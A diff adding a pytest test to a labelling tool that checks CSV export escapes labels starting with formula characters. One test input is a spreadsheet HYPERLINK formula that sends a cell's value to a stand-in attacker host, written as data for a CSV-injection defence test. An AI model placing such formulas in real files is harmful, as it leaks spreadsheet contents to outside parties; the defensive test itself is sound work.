@@ -5,6 +5,7 @@ import io
 import json
 import math
 from collections import Counter
+from dataclasses import replace
 from datetime import timedelta
 from pathlib import Path
 
@@ -144,6 +145,15 @@ def test_lines_of_a_csv(tmp_path: Path) -> None:
     (tmp_path / "labels.csv").write_text(text.replace("False,\r\n", "False,cat\r\n"))
     assert len(labels_of(log, read_answers(tmp_path / "labels.csv"))) == 4
     assert to_csv([], "").startswith("request_id,")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2,"seven")', "+1", "-1", "@x", "\t=1", "\r=1"])
+def test_no_class_is_a_formula_in_a_csv(tmp_path: Path, name: str) -> None:
+    chosen = review(make_log(tmp_path, 2), Labels())
+    chosen = [replace(chosen[0], row=chosen[0].row | {"label": name}), chosen[1]]
+    lines = list(csv.DictReader(io.StringIO(to_csv(chosen, ""), newline="")))
+    assert [line["predicted"] for line in lines] == [f"'{name}", "dog"]
+    assert json.loads(to_label_studio(chosen, ""))[0]["predictions"][0]["result"][0]["value"]["choices"] == [name]
 
 
 def test_numbers_are_reviewed_blind(tmp_path: Path) -> None:
